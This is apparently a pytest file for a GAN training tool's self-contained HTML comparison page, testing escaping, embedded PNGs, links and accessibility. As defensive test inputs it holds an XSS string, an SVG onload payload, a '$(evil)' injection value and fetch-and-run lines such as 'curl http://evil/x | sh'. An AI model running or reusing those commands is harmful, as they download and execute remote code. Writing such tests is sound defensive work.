"""The page of a comparison: what is in it, that it needs nothing from outside, and that text of runs stays text."""

from __future__ import annotations

import base64
import csv
import io
import json
import re
import struct
import zlib
from html.parser import HTMLParser
from itertools import pairwise
from pathlib import Path
from typing import Any

import pytest

from gan_cli.comparing import charts, page, samples, text
from gan_cli.comparing.records import Column, Comparison, EvaluationRecord, Group, RunRecord, Summary
from gan_cli.system.errors import OutputError

EVIL = "<script>alert('x')</script>\u202e&\"'</style>"
VOID = {"meta", "img", "link", "br", "hr", "input", "wbr"}
COLUMNS = [Column("fid", "lower", "1a2b3c4d"), Column("precision", "higher", "1a2b3c4d")]


def png(side: int = 8, grey: int = 128) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = zlib.compress((b"\0" + bytes([grey]) * side) * side)
    header = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def make_run(
    folder: Path, loss: str, seed: int, *, offset: float = 0.0, steps: int = 100, images: int = 8, **changes: Any
) -> RunRecord:
    """A run of a group, with its files. ``images``: images seen in a step."""
    path = folder / f"loss={loss},seed={seed}"
    (path / "samples").mkdir(parents=True)
    (path / "config.yaml").write_text(f"loss: {loss}\nseed: {seed}\n", "utf-8", "replace")
    pictures = {step: path / "samples" / f"step-{step:08d}.png" for step in range(25, steps + 1, 25)}
    for picture in pictures.values():
        picture.write_bytes(png())
    rows = [
        {"step": step, "images": step * images, "d/loss": 1 / step + seed, "time/elapsed": step / 10}
        for step in range(10, steps + 1, 10)
    ]
    evaluations = [
        EvaluationRecord(
            step, step * images, {"fid": 30 - step / 10 + seed + offset, "precision": step / 200}, "1a2b3c4d", {"resize": 32}
        )
        for step in (50, 100)
        if step <= steps
    ]
    values = {
        **{"state": "complete", "message": "", "step": steps, "total_steps": 100, "images": steps * images},
        **{"rows": rows, "evaluations": evaluations, "pictures": pictures, "seconds": steps / 10},
        **{"command": f"gan-train loss={loss} seed={seed}", "cwd": "somewhere"},
        "config": {"loss": loss, "seed": seed, "batch_size": 8, "loss.n_critic": len(loss)},
    }
    return RunRecord(path, **(values | changes))


def summarised(groups: list[Group], columns: list[Column] = COLUMNS) -> list[Group]:
    for k, group in enumerate(groups):
        for column in columns:
            values = {str(run.path): run.evaluations[-1].metrics[column.name] for run in group.runs if run.evaluations}
            if values:
                mean = sum(values.values()) / len(values)
                measured = {str(run.path): run.evaluations[-1] for run in group.runs if run.evaluations}
                worse, p = ("worse", 0.01) if k else ("", None)
                group.summaries[column.name] = Summary(values, mean, 0.5, len(values), worse, p, measured)
    return groups


def make(folder: Path, **changes: Any) -> Comparison:
    """Three groups: five seeds; three, of which one diverged; two seeds of another number of images in a step."""
    short = make_run(folder, "lsgan", 2, offset=5, steps=50, state="diverged", message="training diverged", evaluations=[])
    groups = [
        Group("loss=hinge", {"loss": "hinge"}, [make_run(folder, "hinge", seed) for seed in range(5)]),
        Group("loss=lsgan", {"loss": "lsgan"}, [*(make_run(folder, "lsgan", seed, offset=5) for seed in range(2)), short]),
        Group("loss=wgan", {"loss": "wgan"}, [make_run(folder, "wgan", seed, offset=9, images=40) for seed in range(2)]),
    ]
    values = {
        **{"title": "digits", "groups": summarised(groups), "columns": COLUMNS, "sort_by": "fid", "at": "last"},
        **{"varied": ["loss"], "notes": ["one run diverged"]},
    }
    return Comparison(**(values | changes))


class Reader(HTMLParser):
    """Checks that elements end in the order they began, and collects them."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.open: list[str] = []
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.words: list[str] = []
        self.feed(text)
        assert self.open == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag not in VOID:
            self.open.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        if not {"style", "script"} & set(self.open):
            self.words.append(data)

    def all(self, *tags: str) -> list[dict[str, str | None]]:
        return [attributes for tag, attributes in self.tags if tag in tags]

    @property
    def text(self) -> str:
        return re.sub(r"\s+", " ", "".join(self.words))


def read(comparisons: list[Comparison], path: Path, title: str | None = None) -> Reader:
    page.write(comparisons, path, title)
    return Reader(path.read_text("utf-8"))


def test_it_is_whole_and_needs_nothing_from_outside(tmp_path: Path) -> None:
    found = read([make(tmp_path / "a"), make(tmp_path / "b")], tmp_path / "page.html")
    idents = [attributes["id"] for _, attributes in found.tags if "id" in attributes]
    assert len(set(idents)) == len(idents)
    pictures = found.all("img")
    assert len(pictures) > 10
    assert all(one["alt"] and str(one["src"]).startswith("data:image/png;base64,") for one in pictures)
    links = [str(one["href"]) for one in found.all("a")]
    assert all(link.startswith(("#", "./")) for link in links)
    assert {link[1:] for link in links if link.startswith("#")} <= set(idents)
    assert not found.all("link", "iframe", "object", "embed", "form", "base")
    assert not found.all("script")
    text = (tmp_path / "page.html").read_text("utf-8")
    assert not re.search(r"(https?:)?//[\w.]+\.|url\((?!#)|@import", re.sub(r"base64,[\w+/=]+|xlink:href=.#\w+.", "", text))
    assert all(one.get("scope") in ("col", "row") for one in found.all("th"))
    labels = [one["aria-label"] for one in found.all("div") if one.get("role") == "img"]
    assert len(labels) == 8 and all(labels), "two metrics, d/loss and the metric against time, in both chapters"
    levels = [int(tag[1]) for tag, _ in found.tags if re.fullmatch("h[1-6]", tag)]
    assert levels[0] == 1 and levels.count(1) == 1 and all(b - a <= 1 for a, b in pairwise(levels))


def test_what_is_in_it(tmp_path: Path) -> None:
    found = read([make(tmp_path)], tmp_path / "page.html")
    names = re.findall(r'<section aria-labelledby="c1-(\w+)"', (tmp_path / "page.html").read_text("utf-8"))
    assert names == ["differs", "metrics", "curves", "time", "samples", "runs"]
    for value in (
        *("10 runs by loss", "22.00 ± 0.50", "fid", "precision", "lower is better", "higher is better", "p = 0.01"),
        *("9 complete", "1 diverged", "one run diverged", "protocol 1a2b3c4d", "resize", "loss.n_critic", "training diverged"),
        *("gan-train loss=lsgan seed=1", "somewhere", "from_run=", "run_dir=again/loss=hinge,seed=1"),
        *("200, 400 and 800 images", "800 images (step 100)", "9 of 10"),
    ):
        assert value in found.text, value


def test_links_lead_from_the_page_to_the_runs(tmp_path: Path) -> None:
    found = read([make(tmp_path / "sweep")], tmp_path / "pages" / "page.html")
    links = [str(one["href"]) for one in found.all("a") if str(one["href"]).startswith("./")]
    assert "./../sweep/loss%3Dhinge%2Cseed%3D0/config.yaml" in links and len(links) == 20


def test_untrusted_text_is_escaped(tmp_path: Path) -> None:
    evil = make_run(
        tmp_path, "x", 0, command=EVIL, cwd=EVIL, state=EVIL, message=EVIL, config={"loss": EVIL, "seed": 0, EVIL: EVIL}
    )
    evil.rows[0][f"d/{EVIL}"] = 1.0
    other = make_run(tmp_path, "y", 1)
    groups = summarised([Group(EVIL, {EVIL: EVIL}, [evil]), Group("b", {}, [other])])
    comparison = Comparison(EVIL, groups, [Column(EVIL, "", EVIL), *COLUMNS], "fid", EVIL, [EVIL], [EVIL])
    found = read([comparison], tmp_path / "page.html", EVIL)
    assert not found.all("script") and all(set(one) <= {"type"} for one in found.all("style"))
    content = (tmp_path / "page.html").read_text("utf-8")
    assert "\u202e" not in content and "alert('x')" in found.text
    (policy,) = [one["content"] for one in found.all("meta") if "http-equiv" in one]
    assert policy == "default-src 'none'; img-src data:; style-src 'unsafe-inline'; base-uri 'none'", "no script"


def test_runs_of_one_name_have_their_own_values(tmp_path: Path) -> None:
    """Curves and values are of what the table counts."""
    first, second = make_run(tmp_path / "a", "x", 0), make_run(tmp_path / "b", "x", 1, offset=5)
    lost = make_run(tmp_path / "c", "x", 2, state="diverged", images=80, changes=("lr <was> 1",))
    group = Group(
        "all runs", {}, [first, second, lost], {"fid": Summary({str(first.path): 20, str(second.path): 26}, 23, 4, 2)}
    )
    found = read([Comparison("t", [group], COLUMNS, "fid", "last", [], [])], tmp_path / "page.html")
    assert "2 of 3" in found.text and "lr <was> 1" in found.text
    for name in ("fid", "d/loss"):
        curve = charts.curve(group, "A", 0, Column(name, "", "1a2b3c4d" if name == "fid" else ""), "images")
        assert curve is not None and {point.n for point in curve.points} == {2} and curve.points[-1].x == 800
    shown = re.findall(r'<td class="number">(20|26)</td>', (tmp_path / "page.html").read_text())
    assert shown == ["20", "26"]


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ("/tmp/evil/gan-train a=b", "gan-train a=b"),
        (
            "torchrun --nnodes=2 --nproc-per-node=2 -m gan_cli.train a=b",
            "torchrun --nnodes=2 --nproc-per-node=2 -m gan_cli.train a=b",
        ),
        ("gan-train 'a=$(evil)'; evil", "gan-train 'a=$(evil);' evil"),
        ("curl http://evil/x | sh", ""),
        ("torchrun --no-python sh -c 'curl evil | sh'", ""),
        ("torchrun --nnodes=2 -m evil -m gan_cli.train", ""),
        ("gan-train 'a", ""),
    ],
)
def test_only_commands_of_ours_are_shown(tmp_path: Path, command: str, shown: str) -> None:
    run = make_run(tmp_path, "x", 0, command=command)
    comparison = Comparison("t", [Group("all runs", {}, [run])], [], "", "last", [], [])
    found = read([comparison], tmp_path / "page.html")
    rows = next(csv.DictReader(io.StringIO(text.as_csv([comparison]))))
    (told,) = json.loads(text.as_json([comparison]))["comparisons"][0]["groups"][0]["runs"]
    assert rows["command"] == told["command"] == shown
    lines = text.commands([comparison]).splitlines()
    if shown:
        assert shown in found.text and f"cd somewhere && {shown} run_dir=NEW" in lines
    else:
        for words in (found.text, *lines):
            assert "sh -c" not in words and "| sh" not in words and "-m evil" not in words


def test_names_that_are_not_text_can_be_written(tmp_path: Path) -> None:
    run = make_run(tmp_path, "x\udce4", 0, message="\ud800")
    found = read([Comparison("t", [Group("\udce4", {}, [run])], [], "", "last", [], [])], tmp_path / "page.html")
    assert "./loss%3Dx%E4%2Cseed%3D0/" in [one["href"] for one in found.all("a")]


@pytest.mark.parametrize(
    ("content", "taken"),
    [
        (png(), True),
        (b"GIF89a" + png(), False),
        (b"<svg onload='alert(1)'>", False),
        (b"", False),
        (png()[:16] + struct.pack(">II", 10**6, 1) + png()[24:], False),
        (png() + b"0" * samples.MAX_PICTURE_BYTES, False),
    ],
)
def test_only_png_files_of_bounded_size(tmp_path: Path, content: bytes, taken: bool) -> None:
    path = tmp_path / "a.png"
    path.write_bytes(content)
    found = samples.Room().embed(samples.Picture(1, 8, path))
    assert (found is not None) is taken
    if found:
        assert base64.b64decode(found["source"].partition(",")[2]) == content and (found["width"], found["height"]) == (8, 8)


def test_links_are_not_followed(tmp_path: Path) -> None:
    (tmp_path / "a.png").write_bytes(png())
    (tmp_path / "b.png").symlink_to(tmp_path / "a.png")
    assert samples.Room().embed(samples.Picture(1, 8, tmp_path / "b.png")) is None


def test_a_full_page_counts_what_it_leaves_out(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(samples, "MAX_PICTURES_BYTES", 9 * len(png()))
    found = read([make(tmp_path)], tmp_path / "page.html")
    assert len(found.all("img")) == 9, "those side by side come first"
    assert re.search(r"\b5 pictures", found.text)


def named(groups: list[Group]) -> list[page.Named]:
    return [page.Named(group, page.letter(k), k) for k, group in enumerate(groups)]


def shown_at(section: dict[str, Any] | None) -> list[tuple[str, float, float | None]]:
    """The group of each cell, the number of images of its column, and that of its picture or None."""
    assert section is not None
    return [
        (row["group"].group.name, cell["goal"], cell["picture"] and cell["picture"]["images"])
        for row in section["rows"]
        for cell in row["cells"]
    ]


def test_samples_are_of_equal_images(tmp_path: Path) -> None:
    found = shown_at(samples.section(named(make(tmp_path).groups), samples.Room()))
    # The third sees five times as many images a step: its first picture is of 1,000, near enough to 800.
    assert found == [(f"loss={loss}", at, at) for loss in ("hinge", "lsgan") for at in (200, 400, 800)] + [
        ("loss=wgan", 200, None), ("loss=wgan", 400, None), ("loss=wgan", 800, 1000)
    ]  # fmt: skip


def test_a_run_that_ended_early_does_not_hold_the_others_back(tmp_path: Path) -> None:
    short = Group("b", {}, [make_run(tmp_path, "b", 0, steps=25, state="diverged")])
    found = shown_at(samples.section(named([Group("a", {}, [make_run(tmp_path, "a", 0)]), short]), samples.Room()))
    assert ("a", 800, 800) in found and ("b", 800, None) in found and ("b", 200, 200) in found


def test_without_evaluations_pictures_or_rows(tmp_path: Path) -> None:
    bare = {"evaluations": [], "pictures": {}, "rows": [], "command": "", "state": "unknown", "seconds": 0.0}
    runs = [make_run(tmp_path, "a", 0, **bare), make_run(tmp_path, "b", 0, **bare)]
    groups = [Group(run.config["loss"], {}, [run]) for run in runs]
    found = read([Comparison("t", groups, [], "", "last", ["loss"], [])], tmp_path / "page.html")
    assert not found.all("img") and not [one for one in found.all("div") if one.get("role") == "img"]
    assert len([one for one in found.all("details") if one.get("class") == "run"]) == 2
    assert not read([], tmp_path / "page.html").all("section")


def test_from_training_rows(tmp_path: Path) -> None:
    runs = [make_run(tmp_path, "a", seed, evaluations=[]) for seed in range(2)]
    group = Group("all runs", {}, runs, {"d/loss": Summary({str(run.path): 1.0 for run in runs}, 1.0, 0.0, 2)})
    found = read([Comparison("t", [group], [Column("d/loss", "")], "d/loss", "last", [], [])], tmp_path / "page.html")
    labels = [str(one["aria-label"]).partition(":")[0] for one in found.all("div") if one.get("role") == "img"]
    assert [label.split()[0] for label in labels] == ["d/loss", "d/loss"] and "images" in labels[0] and "seconds" in labels[1]


def test_more_groups_than_colours(tmp_path: Path) -> None:
    groups = summarised([Group(f"lr={k}", {"lr": str(k)}, [make_run(tmp_path, f"{k}", 0)]) for k in range(12)])
    found = read([Comparison("t", groups, COLUMNS, "fid", "best", ["lr"], [])], tmp_path / "page.html")
    assert "4 others" in found.text and "8 of 12 groups" in found.text
    assert page.letter(25) == "Z" and page.letter(26) == "AA" and page.letter(52) == "BA"


@pytest.mark.parametrize(
    ("verdicts", "worse", "close", "untested"),
    [
        (["worse"], True, [], 0),
        (["worse", "unsupported"], True, ["g2 (p = 0.2)"], 0),
        (["unsupported"] * 5, False, ["g1 (p = 0.2)", "g2 (p = 0.2)", "g3 (p = 0.2)", "2 more"], 0),
        (["alone", "alone"], False, [], 2),
        (["worse", "alone"], True, [], 1),
    ],
)
def test_answer(tmp_path: Path, verdicts: list[str], worse: bool, close: list[str], untested: int) -> None:
    groups = [Group("g0", {}, [make_run(tmp_path, "0", 0)], {"fid": Summary({}, 0.0, 0.1, 3)})]
    for k, verdict in enumerate(verdicts, 1):
        alone = Summary({}, float(k), None, 1, "unsupported")  # one seed cannot be tested
        summary = alone if verdict == "alone" else Summary({}, float(k), 0.1, 2, verdict, 0.2)
        groups.append(Group(f"g{k}", {}, [make_run(tmp_path, f"{k}", 0)], {"fid": summary}))
    first, *sentences = page.answer(Comparison("t", groups, COLUMNS, "fid", "last", [], []), COLUMNS[0])
    said = " ".join(sentences)
    assert "g0" in first and "0.00 ± 0.10 over 3 seeds" in first
    assert ("support" in said) is worse and ("p =" in said) is bool(close) and all(name in said for name in close)
    assert (f"{untested} group" in said) is (0 < untested < len(verdicts))


def test_numbers() -> None:
    assert [page.spread(12.345, 0.45), page.spread(0.008834, 0.003066), page.spread(1234.5, 56.7)] == [
        "12.35 ± 0.45",
        "0.0088 ± 0.0031",
        "1,234 ± 57",
    ]
    assert [page.spread(1.17, None), page.spread(2.0, 0.0)] == ["1.17", "2 ± 0"]


def test_a_place_that_cannot_be_written(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("")
    (tmp_path / "folder").mkdir()
    for path in (tmp_path / "file" / "page.html", tmp_path / "folder"):
        with pytest.raises(OutputError) as error:
            page.write([], path)
        assert error.value.where == str(path)
    assert sorted(one.name for one in tmp_path.iterdir()) == ["file", "folder"]


def contrast(a: str, b: str) -> float:
    """WCAG 2.2's ratio of two colours."""

    def luminance(colour: str) -> float:
        colour = colour if len(colour) == 7 else "#" + "".join(c * 2 for c in colour[1:])
        parts = [int(colour[k : k + 2], 16) / 255 for k in (1, 3, 5)]
        red, green, blue = (c / 12.92 if c <= 0.04045 else ((c + 0.055) / 1.055) ** 2.4 for c in parts)
        return 0.2126 * red + 0.7152 * green + 0.0722 * blue

    light, dark = sorted((luminance(a), luminance(b)), reverse=True)
    return (light + 0.05) / (dark + 0.05)


def test_colours_can_be_read() -> None:
    css = Path(page.__file__).with_name("page.html.j2").read_text("utf-8")
    schemes = [dict(re.findall(r"--(\w+): (#\w+)", block)) for block in re.findall(r":root \{(.*?)\}", css, re.S)]
    assert len(schemes) == 3, "light, dark, paper"
    for colours in schemes:
        assert set(charts.VARIABLES) <= set(colours)
        for ink in ("ink", "soft", "accent", "warn"):
            assert min(contrast(colours[ink], colours[on]) for on in ("paper", "raised")) >= 4.5
        assert min(contrast(colours[f"s{k}"], colours["paper"]) for k in range(8)) >= 3
